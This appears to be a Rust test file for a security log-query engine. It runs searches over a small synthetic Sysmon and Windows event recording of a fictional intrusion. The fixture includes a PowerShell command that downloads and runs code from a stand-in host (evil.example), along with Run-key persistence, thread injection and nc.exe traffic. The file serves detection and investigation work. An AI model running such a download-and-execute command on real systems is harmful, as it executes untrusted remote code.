//! Queries: what is found in a small recording, worked out by hand, in whatever order it is read.

#![allow(missing_docs, clippy::unwrap_used, clippy::indexing_slicing, reason = "a test")]

use begat_guest::engine::Row;
use begat_guest::{Batch, Emit, Engine};
use proptest::prelude::*;

/// One afternoon: a document starts PowerShell, which loads something from the net, and goes into the desktop.
const STORY: &str = r#"
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T12:00:01Z","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"100","Image":"C:\\Windows\\explorer.exe","CommandLine":"explorer","User":"CORP\\Ann","ParentProcessId":"90","ParentImage":"C:\\Windows\\System32\\userinit.exe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:02Z","ProcessGuid":"{00000000-0000-0000-0000-000000000002}","ProcessId":"200","Image":"C:\\Office\\winword.exe","CommandLine":"winword a.doc","User":"CORP\\Ann","ParentProcessGuid":"{00000000-0000-0000-0000-000000000001}","ParentImage":"C:\\Windows\\explorer.exe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:03Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell IEX DownloadString('http://evil.example')","Hashes":"MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA","User":"CORP\\Ann","ParentProcessGuid":"{00000000-0000-0000-0000-000000000002}","ParentImage":"C:\\Office\\winword.exe"}
{"EventID":4688,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T12:00:03Z","NewProcessId":"0x12c","NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessId":"0xc8","SubjectUserSid":"S-1-5-21-7-1001","SubjectUserName":"Ann","SubjectDomainName":"CORP"}
{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:04Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","QueryName":"Evil.example","QueryResults":"type:  5 cdn.example;::ffff:203.0.113.7;"}
{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:05Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Protocol":"tcp","Initiated":"true","SourceIp":"10.0.0.5","SourcePort":"50000","DestinationIp":"203.0.113.7","DestinationPort":"443","DestinationHostname":"rev.example"}
{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T13:30:00Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Protocol":"tcp","Initiated":"true","SourceIp":"10.0.0.5","SourcePort":"50001","DestinationIp":"203.0.113.7","DestinationPort":"443","DestinationHostname":"rev.example"}
{"EventID":5156,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T12:00:06Z","ProcessID":"300","Application":"\\device\\harddiskvolume3\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe","Direction":"%%14593","SourceAddress":"10.0.0.5","SourcePort":"50002","DestAddress":"8.8.8.8","DestPort":"53","Protocol":"17"}
{"EventID":5157,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T12:00:07Z","ProcessID":"999","Application":"\\device\\harddiskvolume3\\tools\\nc.exe","Direction":"%%14593","SourceAddress":"127.0.0.1","SourcePort":"50003","DestAddress":"8.8.4.4","DestPort":"53","Protocol":"17"}
{"EventID":11,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:08Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","TargetFilename":"C:\\Users\\Ann\\X.exe"}
{"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:09Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","EventType":"SetValue","TargetObject":"HKLM\\Software\\Run\\x","Details":"C:\\Users\\Ann\\X.exe"}
{"EventID":4663,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T12:00:10Z","ObjectType":"Key","ObjectName":"\\REGISTRY\\MACHINE\\Software\\Run\\x","AccessMask":"0x10000","ProcessId":"0x12c","ProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}
{"EventID":8,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:11Z","SourceProcessGuid":"{00000000-0000-0000-0000-000000000003}","SourceProcessId":"300","SourceImage":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","TargetProcessGuid":"{00000000-0000-0000-0000-000000000001}","TargetProcessId":"100","TargetImage":"C:\\Windows\\explorer.exe","NewThreadId":"77"}
{"EventID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:12Z","ProcessGuid":"{00000000-0000-0000-0000-000000000003}","ProcessId":"300","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ImageLoaded":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Signed":"true","SignatureStatus":"Valid"}
{"EventID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2026-03-01T12:00:13Z","ProcessGuid":"{00000000-0000-0000-0000-000000000002}","ProcessId":"200","Image":"C:\\Office\\winword.exe","ImageLoaded":"C:\\Office\\bad.dll","Signed":"false"}
{"EventID":4688,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T14:00:00Z","NewProcessId":"0x12c","NewProcessName":"C:\\Windows\\notepad.exe","ProcessId":"0x64","ParentProcessName":"C:\\Windows\\explorer.exe"}
{"EventID":5156,"Channel":"Security","Hostname":"ws1.corp.example","TimeCreated":"2026-03-01T14:00:01Z","ProcessID":"300","Application":"\\device\\harddiskvolume3\\windows\\notepad.exe","Direction":"%%14593","SourceAddress":"10.0.0.6","SourcePort":"50004","DestAddress":"8.8.8.8","DestPort":"53","Protocol":"17"}
{"event":{"kind":"event","category":["process"],"type":["start"]},"@timestamp":"2026-03-01T12:00:14Z","host":{"name":"lnx"},"process":{"entity_id":"MzEz","pid":7,"executable":"/usr/bin/Tool","command_line":"Tool -x","code_signature":{"exists":false}},"user":{"name":"root"}}
{"event":{"kind":"event","category":["file"],"type":["change"],"action":"rename"},"@timestamp":"2026-03-01T12:00:15Z","host":{"name":"lnx"},"process":{"entity_id":"MzEz","pid":7,"executable":"/usr/bin/Tool"},"file":{"path":"/tmp/new","Ext":{"original":{"path":"/tmp/old"}}}}
"#;

fn lines() -> Vec<&'static str> {
    STORY.lines().filter(|line| !line.is_empty()).collect()
}

/// Reads the lines of these places, one batch each: their numbers are those of the recording.
fn read(order: impl IntoIterator<Item = usize>) -> Engine {
    let lines = lines();
    let mut engine = Engine::new().unwrap();
    for place in order {
        let received_at = 1_772_460_000_000;
        let first_line = place as u64 + 1;
        let outcome = engine.ingest(&Batch {
            source: "story",
            first_line,
            received_at,
            environment: None,
            emit: Emit::Nothing,
            text: lines[place],
        });
        assert!(outcome.rejected.is_empty(), "{:?}", outcome.rejected);
    }
    engine
}

fn story() -> Engine {
    read(0..lines().len())
}

fn ask(engine: &mut Engine, query: &str) -> Vec<Row> {
    engine.query(query, 0, 0).unwrap()
}

fn get<'r>(row: &'r Row, column: &str) -> &'r str {
    row.columns.iter().find(|(name, _)| name == column).map_or("", |(_, text)| text)
}

/// These columns of each row, with a blank between them.
fn shown(query: &str, columns: &[&str]) -> Vec<String> {
    let rows = ask(&mut story(), query);
    let show = |row: &Row| columns.iter().map(|column| get(row, column)).collect::<Vec<_>>().join(" ");
    rows.iter().map(show).collect()
}

/// The lines that the rows rest on.
fn origins(query: &str) -> Vec<u64> {
    ask(&mut story(), query).iter().map(|row| row.origin.as_ref().unwrap().1).collect()
}

const POWERSHELL: &str = "ws1.corp.example/00000000-0000-0000-0000-000000000003";

#[test]
fn the_documents_own_examples_are_answered() {
    let network = "https://secdo-server/#/investigationNG/builder?entity=network&action=outgoing_network, \
                   incoming_network,failed_network&attr=remote_ip:8.8.8.8|8.8.4.4";
    assert_eq!(
        shown(network, &["action", "remote_ip", "access_type", "file_name", "pid"]),
        [
            "outgoing_network 8.8.8.8 udp powershell.exe 300",
            "failed_network 8.8.4.4 udp nc.exe 999",
            "outgoing_network 8.8.8.8 udp notepad.exe 300",
        ]
    );
    let process = "https://secdo-server/#/investigationNG/builder?entity=process&action=run&attr=file_name: \
                   powershell.exe,cmd:*download*|*encoded*";
    let rows = ask(&mut story(), process);
    assert_eq!(rows.len(), 1, "twins stand once");
    assert_eq!(rows[0].process, POWERSHELL);
    assert_eq!(rows[0].origin, Some(("story".into(), 3)));
    let expected = [
        ("action", "run"),
        ("file_name", "powershell.exe"),
        ("file_path", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        ("process_hash", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        ("pid", "300"),
        ("username", r"corp\ann"),
        ("cmd", "powershell IEX DownloadString('http://evil.example')"),
        ("CGN", "winword.exe"),
        ("signed", "0"),
        ("instanceId", POWERSHELL),
    ];
    assert_eq!(rows[0].columns, expected.map(|(name, text)| (name.to_owned(), text.to_owned())));
}

#[test]
fn every_action_shows_both_ends() {
    let of = |action: &str, name: &str| {
        let query = format!("entity=process&action={action}&attr=file_name:{name}");
        shown(&query, &["action", "file_name", "other_file_name", "thread_id"])
    };
    assert_eq!(
        of("parent", "explorer.exe"),
        ["parent explorer.exe winword.exe ", "parent explorer.exe notepad.exe "]
    );
    assert_eq!(of("child", "powershell.exe"), ["child powershell.exe winword.exe "]);
    // Only its child's record names userinit.
    assert_eq!(of("child", "explorer.exe"), ["child explorer.exe userinit.exe "]);
    assert_eq!(of("injection", "*"), ["injection explorer.exe powershell.exe 77"]);
    assert_eq!(of("injector", "*"), ["injector powershell.exe explorer.exe 77"]);
    assert_eq!(shown("entity=process&attr=thread_id:77", &["action"]).len(), 2);
    assert!(shown("entity=process&action=run&attr=thread_id:77", &[]).is_empty());
}

#[test]
fn a_process_is_found_by_whatever_is_known_of_it() {
    for (attribute, names) in [
        ("process_hash:0123456789abcdef0123456789ABCDEF", "powershell.exe"),
        ("pid:300", "powershell.exe,notepad.exe"),
        (r"username:CORP\ann,pid:200", "winword.exe"),
        ("username:ann,pid:200", "winword.exe"),
        ("username:s-1-5-21-7-1001", "powershell.exe"),
        ("CGN:winword.exe", "winword.exe,powershell.exe"),
        ("signed:0", "powershell.exe"),
        // A library of another says nothing of its own image.
        ("signed:1", "Tool"),
        ("signed:2", ""),
        (r"file_path:\device\harddiskvolume7\windows\explorer.exe", "explorer.exe"),
        (r"file_path:c:\office\*", "winword.exe"),
        ("instanceId:{00000000-0000-0000-0000-000000000002}", "winword.exe"),
        ("instanceId:WS1/00000000-0000-0000-0000-000000000002", "winword.exe"),
        // By the id of the 4688 record, whose twin stands for it.
        ("instanceId:ws1/300/2026-03-01T12:00:03Z", "powershell.exe"),
        ("instanceId:*-000000000003", "powershell.exe"),
        ("instanceId:mzez", "Tool"),
        ("instanceId:nobody", ""),
    ] {
        let names: Vec<&str> = names.split(',').filter(|name| !name.is_empty()).collect();
        let query = format!("entity=process&action=run&attr={attribute}");
        assert_eq!(shown(&query, &["file_name"]), names, "{attribute}");
    }
}

#[test]
fn what_was_looked_up_names_a_connection_for_an_hour() {
    let columns = ["remote_host", "remote_host_from", "remote_port", "local_port"];
    assert_eq!(
        shown("entity=network&attr=remote_ip:203.0.113.7", &columns),
        ["Evil.example dns 443 50000", "rev.example sensor 443 50001"]
    );
    assert_eq!(origins("entity=network&attr=remote_host:evil.EXAMPLE"), [6]);
    assert_eq!(origins("entity=network&attr=remote_host:evil*"), [6]);
    assert_eq!(origins("entity=network&attr=remote_host:rev.example"), [7]);
}

// The process id alone is named; after 14:00 it is notepad's.
#[test]
fn a_process_id_means_who_had_it_then() {
    let id = format!("entity=network&attr=instanceId:{POWERSHELL}");
    assert_eq!(origins(&id), [6, 8, 7]);
    let query = "entity=network&attr=instanceId:ws1/300/2026-03-01T14:00:00Z,access_type:udp,remote_port:53";
    assert_eq!(origins(query), [17]);
    // Nobody is known of 999.
    assert_eq!(shown("entity=network&attr=local_port:50003", &["instanceId"]), [""]);
}

#[test]
fn files_are_found_by_what_was_done_to_them() {
    assert_eq!(shown("entity=file&action=write_file", &["action", "file_name"]), ["create_file X.exe"]);
    assert_eq!(origins(r"entity=file&attr=file_path:\??\c:\users\ann\x.exe"), [10]);
    assert_eq!(origins("entity=file&action=rename_file&attr=old_file_path:/tmp/old"), [19]);
    // Its start and its load; of twins one.
    assert_eq!(origins("entity=file&action=exists&attr=file_name:powershell.exe"), [3, 14]);
    assert_eq!(origins("entity=file&attr=file_hash:a*"), [3]);
    assert!(origins("entity=file&attr=thread_id:*").is_empty());
}

#[test]
fn keys_are_found_however_their_hive_is_written() {
    for key in [r"HKLM\software\run\x", r"HKEY_LOCAL_MACHINE\Software\Run\X", r"\registry\machine\software\*"]
    {
        assert_eq!(origins(&format!("entity=registry&attr=key_name:{key}")), [11, 12], "{key}");
    }
    let query = r"entity=registry&action=delete_registry&attr=key_name:*\run\*";
    assert_eq!(
        shown(query, &["action", "process_name", "instanceId"]),
        [format!("delete_registry powershell.exe {POWERSHELL}")]
    );
    assert_eq!(origins(r"entity=registry&attr=key_value:*x.exe"), [11]);
}

#[test]
fn hosts_have_names_and_addresses_with_times() {
    let columns = ["host_name", "host_ip", "from", "to"];
    let [first, second] = [
        "ws1.corp.example 10.0.0.5 2026-03-01T12:00:05.000Z 2026-03-01T13:30:00.000Z",
        "ws1.corp.example 10.0.0.6 2026-03-01T14:00:01.000Z 2026-03-01T14:00:01.000Z",
    ];
    for name in ["ws1", "WS1.corp.example"] {
        assert_eq!(shown(&format!("entity=host&attr=host_name:{name}"), &columns), [first, second]);
    }
    assert_eq!(shown("entity=host&attr=host_ip:10.0.0.6", &columns), [second]);
    assert_eq!(shown("entity=host", &["host_name"]).len(), 3);
    assert!(shown("entity=host&attr=host_ip:127.0.0.1", &columns).is_empty());
}

#[test]
fn pages_join_to_the_whole() {
    let mut engine = story();
    let whole = ask(&mut engine, "entity=process");
    let pages = (0..20).flat_map(|page| engine.query("entity=process", page * 3, 3).unwrap());
    assert_eq!(pages.collect::<Vec<_>>(), whole);
    assert!(engine.query("entity=process", u64::MAX, 0).unwrap().is_empty());
}

#[test]
fn a_wrong_query_says_where() {
    let error = story().query("entity=proces", 0, 0).unwrap_err();
    assert!(error.to_string().starts_with("query: column 8: "), "{error}");
}

/// Queries by exact values, each with a pattern that fits the same texts and that no index answers.
const ALIKE: [(&str, &str); 9] = [
    ("process&attr=file_name:powershell.exe", "process&attr=file_name:powershell.ex*e"),
    ("process&attr=pid:300", "process&attr=pid:3*00"),
    (
        "process&attr=process_hash:0123456789abcdef0123456789abcdef",
        "process&attr=process_hash:0123456789ABCDEF*",
    ),
    ("network&attr=remote_ip:203.0.113.7", "network&attr=remote_ip:203.0.113.*7"),
    ("network&attr=remote_host:evil.example", "network&attr=remote_host:ev*il.example"),
    ("network&attr=remote_port:53", "network&attr=remote_port:5*3"),
    ("file&attr=file_name:x.exe", "file&attr=file_name:x*.exe"),
    (r"file&attr=file_path:c:\office\winword.exe", r"file&attr=file_path:c:\office\win*word.exe"),
    (r"registry&attr=key_name:hklm\software\run\x", r"registry&attr=key_name:hklm\software\run*\x"),
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    #[test]
    fn the_order_of_arrival_changes_no_answer(order in Just((0..19).collect::<Vec<_>>()).prop_shuffle(), asked in 0..19_usize) {
        let (mut one, mut other) = (read(0..19), Engine::new().unwrap());
        // What was asked in between must not show either.
        let mut read = |places: &[usize]| {
            for &place in places {
                let text = lines()[place];
                let (source, first_line, received_at) = ("story", place as u64 + 1, 1_772_460_000_000);
                let emit = Emit::Nothing;
                other.ingest(&Batch { source, first_line, received_at, environment: None, emit, text });
            }
            ["process", "network", "file", "registry", "host"].map(|entity| ask(&mut other, &format!("entity={entity}")))
        };
        let (before, after) = order.split_at(asked);
        read(before);
        let shuffled = read(after);
        let straight = ["process", "network", "file", "registry", "host"].map(|entity| ask(&mut one, &format!("entity={entity}")));
        prop_assert_eq!(shuffled, straight);
    }

    #[test]
    fn an_index_finds_what_looking_at_all_finds(kept in proptest::sample::subsequence((0..19).collect::<Vec<_>>(), 0..19)) {
        let mut engine = read(kept);
        for (exact, pattern) in ALIKE {
            let rows = ask(&mut engine, &format!("entity={exact}"));
            prop_assert_eq!(rows, ask(&mut engine, &format!("entity={pattern}")), "{}", exact);
        }
    }
}
